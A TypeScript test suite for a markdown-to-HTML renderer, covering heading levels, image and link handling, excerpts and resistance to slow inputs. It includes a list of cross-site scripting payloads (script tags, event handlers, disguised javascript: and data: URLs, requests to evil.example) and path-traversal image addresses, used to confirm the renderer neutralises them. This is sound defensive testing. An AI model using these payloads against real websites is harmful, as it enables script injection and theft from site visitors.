import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { processorTime } from '../testing/processor-time.ts';
import { plainExcerpt, renderMarkdown } from './markdown.ts';

describe('renderMarkdown', () => {
  it('renders what people write', () => {
    expect(renderMarkdown('# Aim\n\nBoot **fast**, see https://xen.org.')).toBe(
      '<h3>Aim</h3>\n<p>Boot <strong>fast</strong>, see <a href="https://xen.org" rel="nofollow noopener">https://xen.org</a>.</p>\n',
    );
    expect(renderMarkdown('3. three')).toBe('<ol start="3">\n<li>three</li>\n</ol>\n');
    expect(renderMarkdown('write to a@example.org')).toContain('href="mailto:a@example.org"');
  });

  it.each([
    ['# a', 'h3'],
    ['### a', 'h3'],
    ['###### a', 'h3'],
    ['# a\n### b\n# c', 'h3 h4 h3'],
    ['### a\n# b\n## c\n### d', 'h3 h3 h4 h5'],
    ['# a\n## b\n### c\n#### d\n##### e\n###### f\n# g', 'h3 h4 h5 h6 h6 h6 h3'],
    ['a\n=\nb\n-\n> #### c', 'h3 h4 h5'],
  ])('puts the headings of %j below the page’s own, without a jump', (source, levels) => {
    expect(headingsOf(renderMarkdown(source)).join(' ')).toBe(levels);
  });

  it('starts one level higher where the text is the page', () => {
    expect(headingsOf(renderMarkdown('## a\n#### b\n## c', { firstHeading: 2 })).join(' ')).toBe('h2 h3 h2');
  });

  it('never jumps, whatever is written', () => {
    const line = fc.constantFrom('# a', '## a', '### a', '#### a', '##### a', '###### a', 'a\n===', 'text');
    fc.assert(
      fc.property(fc.array(line), (lines) => {
        let last = 2;
        for (const heading of headingsOf(renderMarkdown(lines.join('\n\n')))) {
          const level = Number(heading.slice(1));
          expect([heading, level >= 3 && level <= last + 1]).toEqual([heading, true]);
          last = level;
        }
      }),
    );
  });

  it('turns a picture into a link, so that no other server learns who reads', () => {
    expect(renderMarkdown('![a "plan"](https://example.org/x.png)')).toBe(
      '<p><a href="https://example.org/x.png" rel="nofollow noopener">a "plan"</a></p>\n',
    );
  });

  const OURS = '/pictures/01kh3v9m6y0f6n3c1x8e2qzr5t-800x600';
  it('shows a picture of the site, and leaves room for it', () => {
    const html = (src: string) =>
      `<p>See <img src="${src}" alt="a &quot;plan&quot; [1]" width="800" height="600" loading="lazy" /></p>\n`;
    expect(renderMarkdown(`See ![a "*plan*" \\[1\\]](${OURS})`)).toBe(html(OURS));
    const elsewhere = { origin: 'https://our.example' };
    expect(renderMarkdown(`See ![a "*plan*" \\[1\\]](${OURS})`, elsewhere)).toBe(
      html(`https://our.example${OURS}`),
    );
    expect(plainExcerpt(`See ![a plan](${OURS}) there`, 50)).toBe('See there');
  });

  it('offers the small version of a picture that has one, but not to readers of feeds', () => {
    const address = `${OURS}-640x480`;
    const small = OURS.replace('800x600', '640x480');
    const rest = 'alt="a plan" width="800" height="600" loading="lazy" /></p>\n';
    expect(renderMarkdown(`![a plan](${address})`)).toBe(
      `<p><img src="${address}" srcset="${small} 640w, ${address} 800w" sizes="auto, (min-width: 40rem) 38rem, 100vw" ${rest}`,
    );
    expect(renderMarkdown(`![a plan](${address})`, { origin: 'https://our.example' })).toBe(
      `<p><img src="https://our.example${address}" ${rest}`,
    );
  });

  it.each([
    `/pictures/../sign-out`,
    `${OURS}/../x`,
    `${OURS}?x`,
    `${OURS}-640x480-640x480`,
    `${OURS}-6400x4800`,
    `${OURS}-640x480,//evil.example/x`,
    `${OURS}-640x480%20640w,%20//evil.example/x`,
    `//evil.example${OURS}`,
    `https://evil.example${OURS}`,
    '/pictures/01KH3V9M6Y0F6N3C1X8E2QZR5T-800x600',
    '/files/a/b/c.svg',
  ])('shows no picture of %s', (address) => {
    expect(renderMarkdown(`![x](${address})`)).not.toContain('<img');
    expect(renderMarkdown(`![x](${address})`, { origin: 'https://our.example' })).not.toContain('<img');
  });

  const attacks = [
    `![x" onerror="alert(1)](${OURS} "t" onload="alert(1)")`,
    `![![x](${OURS})](javascript:alert(1))`,
    `![x" srcset="//evil.example/x 1w](${OURS}-640x480 "srcset=//evil.example/x")`,
    `[![x](${OURS})](javascript:alert(1))`,
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example></sCrIpT>',
    '<svg onload=alert(1)><circle/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<style>@import "//evil.example"</style>',
    '<p style="background:url(//evil.example)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<form action="//evil.example"><input name=x></form>',
    '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](java&#x0A;script:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](&#x6A;avascript&colon;alert(1))',
    '[x](&Tab;javascript:alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](javascript&#58;alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](data:image/svg+xml,<svg onload=alert(1)>)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example)',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml;base64,AAAA)',
    '![x" onerror="alert(1)](https://example.org/"onload="alert(1))',
    '[x](https://example.org/ "t" onmouseover="alert(1)")',
    '[x](https://example.org/"onmouseover="alert(1))',
    '[[x](javascript:alert(1))](javascript:alert(2))',
    '[![x](javascript:alert(1))](javascript:alert(2))',
    '[x]: javascript:alert(1)\n\n[x]',
    '<javascript:alert(1)>',
    '<data:text/html,<script>alert(1)</script>>',
    '`<script>alert(1)</script>`',
    '```html"onload="alert(1)\n<script>alert(1)</script>\n```',
    '<<script>script>alert(1)<</script>/script>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '|<script>|\n|-|\n|<img src=x onerror=alert(1)>|',
  ];

  it.each(attacks)('runs nothing of %s', (source) => expectHarmless(renderMarkdown(source)));

  it('runs nothing of any mixture of them', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks, '[', ']', '(', ')', '<', '"', "'", '\n', '`'),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) =>
        expectHarmless(renderMarkdown(pieces.join(''))),
      ),
    );
  });

  it.each([
    ['opening brackets', '['.repeat(20_000)],
    ['nested pictures', '![['.repeat(6000)],
    ['emphasis', '*a_'.repeat(6000)],
    ['quotes', '>'.repeat(20_000)],
    ['back-ticks', '`a``b'.repeat(4000)],
    ['half links', '[]('.repeat(6000)],
    ['almost addresses', 'a@'.repeat(10_000)],
    ['almost URLs', 'http://'.repeat(3000)],
    ['lists', '- '.repeat(10_000)],
    ['tables', `${'|'.repeat(10_000)}\n${'|-'.repeat(10_000)}`],
    ['tags', '<a'.repeat(10_000)],
  ])('answers within a second for 20 000 characters of %s', (_, source) => {
    const started = processorTime();
    renderMarkdown(source);
    plainExcerpt(source, 200);
    expect(processorTime() - started).toBeLessThan(1000);
  });
});

describe('plainExcerpt', () => {
  it('keeps the words and drops the marks', () => {
    expect(plainExcerpt('# Aim\n\nBoot **fast** with `kexec`,\nsee [the page](https://x.org).', 200)).toBe(
      'Boot fast with kexec, see the page.',
    );
    expect(plainExcerpt('Intro.\n\nHow\n---\n\n- one\n- two', 200)).toBe('Intro. one two');
    expect(plainExcerpt('# Only *this*', 200)).toBe('Only this');
    const table = '| when | who |\n| --- | --- |\n| Monday | Ada |';
    expect(plainExcerpt(`Who comes.\n\n${table}\n\nBring shoes.`, 200)).toBe('Who comes. Bring shoes.');
    expect(plainExcerpt(table, 200)).toBe('when who Monday Ada');
  });

  it('cuts between words', () => {
    expect(plainExcerpt('one two three four', 12)).toBe('one two…');
    expect(plainExcerpt('incomprehensibilities', 10)).toBe('incompreh…');
  });

  it('is never longer than it may be, and never ends in half a character', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme', maxLength: 80 }),
        fc.integer({ min: 2, max: 30 }),
        (text, max) => {
          const excerpt = plainExcerpt(text, max);
          expect(excerpt.length).toBeLessThanOrEqual(max);
          expect(excerpt.isWellFormed()).toBe(true);
        },
      ),
    );
  });
});

function headingsOf(html: string): string[] {
  return [...html.matchAll(/<(h\d)>/g)].map(([, name]) => name ?? '');
}

const TAGS = new Set(
  'h2 h3 h4 h5 h6 p br hr blockquote pre code em strong s a img ul ol li table thead tbody tr th td'.split(
    ' ',
  ),
);

/** Reads the HTML as a browser would see its tags: only known ones, only known attributes, only harmless links. */
function expectHarmless(html: string): void {
  for (const [, name, attributes = ''] of html.matchAll(/<\/?([a-z][^\s/>]*)((?:"[^"]*"|[^">])*)>/gi)) {
    expect(TAGS).toContain(name);
    const rest = attributes.replaceAll(
      / (href|title|rel|start|src|srcset|sizes|alt|width|height|loading)="([^"<>]*)"/g,
      (_, key: string, value: string) => {
        if (key === 'href') expect(value).toSatisfy(isHarmlessLink);
        if (key === 'src') expect(value).toMatch(/^\/pictures\/[0-9a-z]{26}(-\d+x\d+){1,2}$/);
        if (key === 'srcset')
          for (const version of value.split(', '))
            expect(version).toMatch(/^\/pictures\/[0-9a-z]{26}(-\d+x\d+){1,2} \d+w$/);
        return '';
      },
    );
    expect(rest.replace(' /', '')).toBe('');
  }
  expect(html.replaceAll(/<\/?[a-z][^\s/>]*(?:"[^"]*"|[^">])*>/gi, '')).not.toMatch(/</);
}

/** Follows the link as a browser on our page would. */
function isHarmlessLink(value: string): boolean {
  const decoded = value.replaceAll('&quot;', '"').replaceAll('&amp;', '&');
  const parsed = URL.parse(decoded, 'https://plenary.example/page');
  if (!parsed || /^(https?|mailto):/i.test(decoded)) return true;
  return parsed.origin === 'https://plenary.example';
}

it('links of our own have the whole address where a text is read elsewhere', () => {
  const source =
    '[a](/x/y) [b](https://example.org/) [c](//example.org/z) [d](mailto:a@example.org) [e](#here)';
  const targets = renderMarkdown(source, { origin: 'https://our.example' }).matchAll(/href="([^"]*)"/g);
  expect([...targets].map((match) => match[1])).toEqual([
    'https://our.example/x/y',
    'https://example.org/',
    'mailto:a@example.org',
    '#here',
  ]);
});
